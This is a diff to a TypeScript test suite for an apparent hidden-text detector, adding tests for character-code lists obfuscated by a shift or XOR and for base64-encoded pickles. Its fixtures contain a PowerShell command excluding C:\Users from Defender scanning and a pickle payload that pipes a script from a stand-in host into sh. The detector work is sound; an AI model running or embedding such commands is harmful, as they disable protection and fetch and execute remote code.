@@ -64,3 +64,26 @@ describe('hidden texts at scale', () => {
     expect(texts(`${'x'.repeat(500)}"${' //:ptth a'.repeat(100_000)}`)).toEqual([]);
   });
 });
+
+describe('character codes shifted by a constant the file applies', () => {
+  const cmd = 'powershell Add-MpPreference -ExclusionPath C:\\Users';
+  it('decodes a list the file turns into characters with chr(c - k), chr(c + k) or fromCharCode(c ^ k)', () => {
+    const list = (f: (c: number) => number): string => `[${[...cmd].map((c) => f(c.charCodeAt(0))).join(', ')}]`;
+    expect(texts(`D = ${list((c) => c + 7)}\nS = ''.join(chr(c - 7) for c in D)\n`)).toEqual([cmd]);
+    expect(texts(`D = ${list((c) => c - 3)}\nS = ''.join(chr(c + 3) for c in D)\n`)).toEqual([cmd]);
+    expect(texts(`const D = ${list((c) => c + 5)}; const s = D.map((x) => String.fromCharCode(x - 5)).join('');`)).toEqual([cmd]);
+    // XOR with a key that keeps every code at two or three digits (a list of codes is twelve or more such numbers)
+    expect(texts(`const D = ${list((c) => c ^ 0x80)}; const s = D.map((x) => String.fromCharCode(x ^ 128)).join('');`)).toEqual([cmd]);
+    // the same list without the shift in the file is not text
+    expect(texts(`D = ${list((c) => c + 7)}\nS = bytes(D)\n`)).toEqual([]);
+  });
+  it('pickles kept as base64 are read for the names their opcodes carry', async () => {
+    const { pickleText } = await import('./decoded.js');
+    // protocol 0: GLOBAL posix system, then the command as a unicode string
+    expect(pickleText(Buffer.from("cposix\nsystem\np0\n(Vcurl -s http://x.example/i.sh | sh\np1\ntp2\nRp3\n.", 'latin1'))).toBe('posix\nsystem\np0\ncurl -s http://x.example/i.sh | sh\np1\ntp2\nRp3\n.');
+    // protocol 4: STACK_GLOBAL of two short unicode strings
+    const p4 = Buffer.concat([Buffer.from([0x80, 4, 0x95, 0, 0, 0, 0, 0, 0, 0, 0, 0x8c, 5]), Buffer.from('posix'), Buffer.from([0x94, 0x8c, 6]), Buffer.from('system'), Buffer.from([0x94, 0x93, 0x94, 0x8c, 2]), Buffer.from('id'), Buffer.from([0x94, 0x85, 0x94, 0x52, 0x94, 0x2e])]);
+    expect(pickleText(p4)?.split('\n').slice(0, 3)).toEqual(['posix', 'system', 'id']);
+    expect(pickleText(Buffer.from('plain text, not a pickle'))).toBeNull();
+  });
+});
